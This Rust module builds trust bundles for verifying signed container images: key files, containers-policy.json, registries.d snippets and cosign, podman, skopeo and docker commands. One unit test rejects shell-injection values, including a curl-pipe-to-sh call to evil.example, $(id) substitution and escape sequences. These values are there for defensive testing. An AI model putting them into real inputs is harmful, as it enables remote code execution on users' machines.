//! What a relying party needs to check the images of one definition: every public key, and the
//! files and commands with which the usual tools check them.

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde::{Deserialize, Serialize};
use serde_json::json;

use crate::{DefinitionName, ImageReference, NotaryServer};

/// The value of [`TrustBundle::schema`] that this crate reads and writes.
pub const TRUST_SCHEMA: &str = "sbs-trust-1";

/// The public keys of an image definition, and where its signatures are.
///
/// It is worth as much as the way on which it came: over the server's own connection, or from
/// somebody who fetched it there. One from outside is read by [`parse_json`](crate::parse_json).
///
/// Format: `docs/trust.md`.
#[derive(Clone, Debug, Deserialize, Eq, PartialEq, Serialize)]
#[serde(deny_unknown_fields)]
pub struct TrustBundle {
    /// The keys of statements about the image that are not its release. An image is not released
    /// because one of them signed something.
    pub attestation_keys: Vec<PublicKey>,
    /// The image definition.
    pub definition: DefinitionName,
    /// The keys that release an image: those of cosign signatures.
    pub image_keys: Vec<PublicKey>,
    /// Where the OpenPGP signatures are served, if that is not the registry itself.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub lookaside: Option<String>,
    /// The keys that sign manifests.
    pub manifest_keys: Vec<PublicKey>,
    /// The notary that announces the image, if there is one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub notary: Option<NotaryRoot>,
    /// The keys of Red Hat simple signing.
    pub openpgp_keys: Vec<OpenPgpPublicKey>,
    /// The repository of the image, without tag.
    pub repository: ImageReference,
    /// The form of this bundle: [`TRUST_SCHEMA`].
    pub schema: String,
}

/// A public key of a signature over SHA-256.
#[derive(Clone, Debug, Deserialize, Eq, PartialEq, Serialize)]
#[serde(deny_unknown_fields)]
pub struct PublicKey {
    /// SHA-256 over the SubjectPublicKeyInfo in DER, in lower-case hex.
    pub id: String,
    /// The key as a SubjectPublicKeyInfo, PEM.
    pub pem: String,
    /// A newer key has its place: it signs beside that one until it is retired.
    #[serde(default)]
    pub retiring: bool,
}

/// An OpenPGP certificate.
#[derive(Clone, Debug, Deserialize, Eq, PartialEq, Serialize)]
#[serde(deny_unknown_fields)]
pub struct OpenPgpPublicKey {
    /// The certificate, armored.
    pub armored: String,
    /// Its fingerprint, in upper-case hex.
    pub fingerprint: String,
    /// A newer key has its place: it signs beside that one until it is retired.
    #[serde(default)]
    pub retiring: bool,
}

/// The root of trust of a repository at a notary.
#[derive(Clone, Debug, Deserialize, Eq, PartialEq, Serialize)]
#[serde(deny_unknown_fields)]
pub struct NotaryRoot {
    /// The globally unique name: registry and repository.
    pub gun: String,
    /// The root certificate, PEM.
    pub root_certificate: String,
    /// The id of the root key, as `docker trust inspect` shows it: lower-case hex.
    pub root_key_id: String,
    /// The notary server: its address stands in commands for a shell.
    pub server: NotaryServer,
}

/// What a signing key of an image definition is for.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum KeyRole {
    /// Statements about an image that do not release it.
    Attestation,
    /// cosign signatures, which release an image.
    Image,
    /// Manifests.
    Manifest,
    /// Red Hat simple signing.
    OpenPgp,
}

impl KeyRole {
    /// Every role.
    pub const ALL: [Self; 4] = [Self::Attestation, Self::Image, Self::Manifest, Self::OpenPgp];

    /// Returns the role as it stands in routes and on command lines.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Attestation => "attestation",
            Self::Image => "image",
            Self::Manifest => "manifest",
            Self::OpenPgp => "openpgp",
        }
    }

    /// Parses what [`as_str`](Self::as_str) returns.
    pub fn parse(text: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|role| role.as_str() == text)
    }
}

/// A file of a trust bundle.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct TrustFile {
    /// The content.
    pub content: String,
    /// The path inside the bundle's directory.
    pub path: &'static str,
}

impl TrustBundle {
    /// Returns the files that the usual tools read, but for the bundle itself.
    pub fn files(&self) -> Vec<TrustFile> {
        let mut files = Vec::new();
        let mut add = |path, content: String| {
            if !content.is_empty() {
                files.push(TrustFile { content, path });
            }
        };
        for (keys, names) in [
            (&self.image_keys, IMAGE_KEY_FILES),
            (&self.attestation_keys, ATTESTATION_KEY_FILES),
            (&self.manifest_keys, MANIFEST_KEY_FILES),
        ] {
            for key in keys {
                let [current, retiring] = names;
                add(if key.retiring { retiring } else { current }, key.pem.clone());
            }
        }
        add(OPENPGP_FILE, self.openpgp_text());
        if let Some(notary) = &self.notary {
            add(NOTARY_FILE, notary.root_certificate.clone());
        }
        let identity = json!({ "type": "matchRepoDigestOrExact" });
        if !self.openpgp_keys.is_empty() {
            let data = STANDARD.encode(self.openpgp_text());
            let signed_by = json!({
                "type": "signedBy", "keyType": "GPGKeys", "keyData": data, "signedIdentity": identity
            });
            add(POLICY_FILE, self.policy(&signed_by));
        }
        if let Some(key) = self.image_keys.iter().find(|key| !key.retiring) {
            let data = STANDARD.encode(&key.pem);
            let signed =
                json!({ "type": "sigstoreSigned", "keyData": data, "signedIdentity": identity });
            add(SIGSTORE_POLICY_FILE, self.policy(&signed));
        }
        add(REGISTRIES_FILE, self.registries_d());
        add(README_FILE, self.readme());
        files
    }

    /// Returns a policy of containers-policy.json(5): images of this repository must be signed,
    /// and there are no others.
    fn policy(&self, requirement: &serde_json::Value) -> String {
        let scopes = json!({ self.repository.to_string(): [requirement] });
        let policy =
            json!({ "default": [{ "type": "reject" }], "transports": { "docker": scopes } });
        format!("{policy:#}\n")
    }

    /// Returns the snippet of containers-registries.d(5) that says where the signatures are.
    fn registries_d(&self) -> String {
        let mut text =
            format!("docker:\n  {}:\n    use-sigstore-attachments: true\n", self.repository);
        if let Some(lookaside) = &self.lookaside {
            // JSON's strings are YAML's, too.
            let _infallible = writeln!(text, "    lookaside: {}", json!(lookaside));
        }
        text
    }

    fn openpgp_text(&self) -> String {
        self.openpgp_keys.iter().map(|key| key.armored.as_str()).collect()
    }

    /// Returns the commands with which each tool checks an image, to be run in the directory of
    /// the bundle. `IMAGE` in them stands for the reference of an image.
    pub fn commands(&self) -> Vec<(&'static str, String)> {
        let mut commands = vec![("sbs", format!("sbs verify-image --trust {TRUST_FILE} IMAGE"))];
        if !self.image_keys.is_empty() {
            let [key, _] = IMAGE_KEY_FILES;
            let cosign = format!("cosign verify --key {key} --insecure-ignore-tlog IMAGE");
            commands.push(("cosign", cosign));
            let podman = format!("podman pull --signature-policy {SIGSTORE_POLICY_FILE} IMAGE");
            commands.push(("podman", podman));
        }
        if !self.openpgp_keys.is_empty() {
            let skopeo = format!(
                "skopeo --policy {POLICY_FILE} --registries.d {REGISTRIES_DIRECTORY} copy \
                 docker://IMAGE oci:image"
            );
            commands.push(("skopeo", skopeo));
        }
        if let Some(notary) = &self.notary {
            let variables =
                format!("DOCKER_CONTENT_TRUST=1 DOCKER_CONTENT_TRUST_SERVER={}", notary.server);
            commands.push(("docker", format!("{variables} docker pull IMAGE")));
        }
        commands
    }

    fn readme(&self) -> String {
        let mut text = format!(
            "What is needed to check images of {}.\n\n\
             Each command is run in this directory; IMAGE stands for the image, such as\n{}:TAG.\n\n",
            self.repository, self.repository
        );
        for (tool, command) in self.commands() {
            let _infallible = writeln!(text, "{tool}:\n    {command}");
        }
        text += "\ncosign: 3.0.4 or newer. podman finds its signatures with the file of registries.d in\n\
                 /etc/containers/registries.d.\n";
        text
    }
}

/// The name of the bundle itself, in its directory.
pub const TRUST_FILE: &str = "trust.json";

/// The name of the current and of the retiring key.
const IMAGE_KEY_FILES: [&str; 2] = ["image.pub", "image.retiring.pub"];
const ATTESTATION_KEY_FILES: [&str; 2] = ["attestation.pub", "attestation.retiring.pub"];
const MANIFEST_KEY_FILES: [&str; 2] = ["manifest.pub", "manifest.retiring.pub"];
const OPENPGP_FILE: &str = "openpgp.asc";
const NOTARY_FILE: &str = "notary-root.pem";
const POLICY_FILE: &str = "policy.json";
const SIGSTORE_POLICY_FILE: &str = "policy.sigstore.json";
const REGISTRIES_DIRECTORY: &str = "registries.d";
const REGISTRIES_FILE: &str = "registries.d/sbs.yaml";
const README_FILE: &str = "README.txt";

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;

    fn bundle() -> TrustBundle {
        let key = |pem: &str, retiring| PublicKey {
            id: "00".repeat(32),
            pem: format!("{pem}\n"),
            retiring,
        };
        TrustBundle {
            attestation_keys: vec![key("attestation", false)],
            definition: DefinitionName::default_name(),
            image_keys: vec![key("image", false), key("old image", true)],
            lookaside: Some("https://signatures.example/".to_owned()),
            manifest_keys: vec![key("manifest", false)],
            notary: Some(NotaryRoot {
                gun: "registry.example/ns/app".to_owned(),
                root_certificate: "certificate\n".to_owned(),
                root_key_id: "11".repeat(32),
                server: NotaryServer::parse("notary.example").unwrap(),
            }),
            openpgp_keys: vec![OpenPgpPublicKey {
                armored: "armored\n".to_owned(),
                fingerprint: "AA".repeat(20),
                retiring: false,
            }],
            repository: ImageReference::parse("registry.example/ns/app").unwrap(),
            schema: TRUST_SCHEMA.to_owned(),
        }
    }

    fn file(bundle: &TrustBundle, path: &str) -> String {
        let file = bundle.files().into_iter().find(|file| file.path == path);
        file.unwrap_or_else(|| panic!("no {path}")).content
    }

    #[test]
    fn a_bundle_is_read_as_it_was_written() {
        let text = serde_json::to_string(&bundle()).unwrap();
        assert_eq!(crate::parse_json::<TrustBundle>(text.as_bytes()).unwrap(), bundle());
        let unknown = text.replacen('{', r#"{"more":1,"#, 1);
        crate::parse_json::<TrustBundle>(unknown.as_bytes()).unwrap_err();
    }

    #[test]
    fn c2_what_a_shell_would_read_otherwise_is_in_no_bundle() {
        let good = serde_json::to_value(bundle()).unwrap();
        let server = "https://notary.example:4443";
        for (pointer, values) in [
            (
                "/notary/server",
                &[
                    "https://x; curl https://evil.example | sh #",
                    "https://x$(id)",
                    "https://x`id`",
                    "https://x'",
                    "https://x\"",
                    "https://x\u{1b}]0;title\u{7}",
                    "https://x\nid",
                    "https://x y",
                    "http://x",
                    "",
                ][..],
            ),
            ("/repository", &["r.example/a;id", "r.example/a\u{1b}[2J", "r.example/a'b"]),
            ("/definition", &["a;id", "a b", "\u{1b}[2J"]),
        ] {
            for value in values {
                let mut bad = good.clone();
                *bad.pointer_mut(pointer).unwrap() = (*value).into();
                crate::parse_json::<TrustBundle>(bad.to_string().as_bytes()).unwrap_err();
            }
        }
        let mut other = good;
        other["notary"]["server"] = server.into();
        let other: TrustBundle = serde_json::from_value(other).unwrap();
        let (_, command) = other.commands().pop().unwrap();
        assert!(command.contains(&format!("SERVER={server} docker")), "{command}");
    }

    #[test]
    fn every_key_has_a_file_of_its_own() {
        let bundle = bundle();
        let files = bundle.files();
        let mut paths: Vec<_> = files.iter().map(|file| file.path).collect();
        paths.sort_unstable();
        let count = paths.len();
        paths.dedup();
        assert_eq!(paths.len(), count);
        assert_eq!(file(&bundle, "image.pub"), "image\n");
        assert_eq!(file(&bundle, "image.retiring.pub"), "old image\n");
        assert_eq!(file(&bundle, "openpgp.asc"), "armored\n");
        assert_eq!(file(&bundle, "notary-root.pem"), "certificate\n");
    }

    #[test]
    fn the_policy_takes_signed_images_of_the_repository_and_no_others() {
        let policy: Value = serde_json::from_str(&file(&bundle(), "policy.json")).unwrap();
        assert_eq!(policy["default"][0]["type"], "reject");
        let rules = &policy["transports"]["docker"]["registry.example/ns/app"];
        assert_eq!(rules[0]["type"], "signedBy");
        assert_eq!(rules[0]["keyData"], STANDARD.encode("armored\n"));
        assert_eq!(rules[0]["signedIdentity"]["type"], "matchRepoDigestOrExact");
        let sigstore = file(&bundle(), "policy.sigstore.json");
        let sigstore: Value = serde_json::from_str(&sigstore).unwrap();
        let rules = &sigstore["transports"]["docker"]["registry.example/ns/app"];
        assert_eq!(rules[0]["keyData"], STANDARD.encode("image\n"));
    }

    #[test]
    fn where_signatures_are_is_told() {
        let expected = "docker:\n  registry.example/ns/app:\n    use-sigstore-attachments: true\n    \
                        lookaside: \"https://signatures.example/\"\n";
        assert_eq!(file(&bundle(), "registries.d/sbs.yaml"), expected);
    }

    #[test]
    fn commands_are_given_for_what_there_is() {
        let tools = |bundle: &TrustBundle| {
            bundle.commands().into_iter().map(|(tool, _)| tool).collect::<Vec<_>>()
        };
        let mut bundle = bundle();
        assert_eq!(tools(&bundle), ["sbs", "cosign", "podman", "skopeo", "docker"]);
        bundle.notary = None;
        bundle.openpgp_keys.clear();
        assert_eq!(tools(&bundle), ["sbs", "cosign", "podman"]);
        assert!(bundle.files().iter().all(|file| file.path != "policy.json"));
    }
}
